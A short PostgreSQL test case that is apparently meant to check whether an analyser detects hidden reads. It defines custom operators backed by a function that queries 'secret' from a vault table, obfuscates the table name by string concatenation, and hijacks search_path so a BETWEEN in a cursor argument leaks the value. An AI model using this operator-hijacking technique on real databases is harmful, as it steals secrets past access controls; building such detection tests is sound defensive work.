-- Gives a cursor of a loop an argument that compares by operators which are not in its text.
-- wants: read
-- attack:
CREATE TYPE office.odd AS (a int);
CREATE FUNCTION office.told(office.odd, office.odd) RETURNS boolean LANGUAGE plpgsql AS $$
  DECLARE found text;
  BEGIN
    EXECUTE 'SELECT secret FROM public.vlt_' || 'account LIMIT 1' INTO found;
    RAISE NOTICE '%', found;
    RETURN true;
  END $$;
CREATE OPERATOR office.= (LEFTARG = office.odd, RIGHTARG = office.odd, FUNCTION = office.told);
CREATE OPERATOR office.<= (LEFTARG = office.odd, RIGHTARG = office.odd, FUNCTION = office.told);
CREATE OPERATOR office.~~ (LEFTARG = office.odd, RIGHTARG = office.odd, FUNCTION = office.told);
SET search_path = office, pg_catalog, public;
DO $$ DECLARE x office.odd := ROW(1); c CURSOR (p boolean) FOR SELECT p; BEGIN FOR r IN c(x BETWEEN x AND x) LOOP END LOOP; END $$;
